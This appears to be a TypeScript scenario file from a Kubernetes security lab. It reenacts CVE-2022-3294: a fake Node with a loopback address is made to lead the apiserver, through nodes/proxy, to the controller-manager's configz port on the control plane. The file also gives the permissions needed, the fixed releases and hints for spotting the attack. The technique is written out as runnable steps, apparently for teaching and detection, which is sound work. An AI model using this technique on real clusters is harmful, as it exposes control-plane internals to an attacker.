import { addresses } from '../addresses';
import { curl } from './curl';
import { makeFalseNode } from './false-node';
import { openLoopbackPort } from './loopback-port';
import type { Scenario } from './scenario';

/**
 * attacker ── nodes/edge-9/proxy ──► apiserver ── as kube-apiserver-kubelet-client ──► 127.0.0.1:10257 of the control plane
 */
export const nodeAddressOnLoopback: Scenario = {
  id: 'node-address-on-loopback',
  title: 'a node that lives on the control plane’s loopback (CVE-2022-3294)',
  story:
    'kube-controller-manager, kube-scheduler and others listen on 127.0.0.1 of the control plane, where nobody else is. A Node whose address is 127.0.0.1 and whose kubelet port is theirs led the apiserver there, with its own client certificate, for whoever could make Nodes and get nodes/proxy: the address was looked at for other ports of a node, and not for the kubelet’s. Since the fix it is looked at for both. Logs, exec, attach and port-forward still do not look; what they ask for there, a pod’s path, is of little use.',
  needs: 'The right to create Nodes (or write their status) and to get nodes/proxy.',
  evidence:
    'The controller-manager’s configuration, random word included, from a port that is on the control plane’s loopback alone; or the apiserver’s refusal of the address.',
  attack: ['T1078'],
  setting: {
    name: '--midplane-emulate-cve',
    open: 'CVE-2022-3294: as before 1.22.16, 1.23.14, 1.24.8, 1.25.4',
    fixed: 'off: as those releases and all later ones',
  },
  notice:
    'Node objects with a loopback, link-local or control-plane address, or a kubeletEndpoint.Port that is not 10250 (kubectl get nodes -o yaml), in particular of nobody’s node; audit events create nodes and get nodes/proxy by one account; on the control plane, a component’s log with requests by kube-apiserver-kubelet-client.',
  sources: [
    'CVE-2022-3294 (kubernetes/kubernetes#113757)',
    'pkg/registry/core/node/strategy.go (ResourceLocation), pkg/proxy/util (IsProxyableHostname)',
    'CVE-2020-8562: a name that is looked at and then resolved again is not stopped by that',
  ],
  async play(stage, twin) {
    const { signal } = stage;
    const cluster = await stage.cluster({
      apiserverFlags: twin === 'open' ? ['--midplane-emulate-cve=CVE-2022-3294'] : [],
    });
    const word = `CONFIG-${stage.random.hex(6)}`;
    const configz = { 'kubecontrollermanager.config.k8s.io': { ClusterName: word } };
    const port = stage.closeLater(await openLoopbackPort(cluster, configz));
    const listening = `127.0.0.1:${port.port} of the control plane`;
    await stage.did(
      'admin',
      'kube-controller-manager --bind-address=127.0.0.1',
      `listens at ${listening} only`,
    );

    const url = `https://${addresses.controlPlane}:${port.port}/configz`;
    const outside = await curl(cluster.attackerHost, url, { signal });
    if (outside.ok) throw new Error('the port is open to the network');
    await stage.did('attacker', `curl -k ${url}`, outside.words);

    await using node = await makeFalseNode(stage, cluster, port);
    const other = await node.get('/', 9100);
    if (other.answer.ok)
      await stage.gained('attacker', other.did, other.answer.body.toString('utf8'), 'another loopback port');
    else await stage.refused('attacker', other.did, other.answer.words);

    const { did, answer } = await node.get('/configz');
    const text = answer.body.toString('utf8');
    if (text.includes(word)) {
      await stage.gained(
        'attacker',
        did,
        text,
        'the configuration of the controller-manager, from its loopback port',
      );
    } else await stage.refused('attacker', did, answer.words);
  },
};
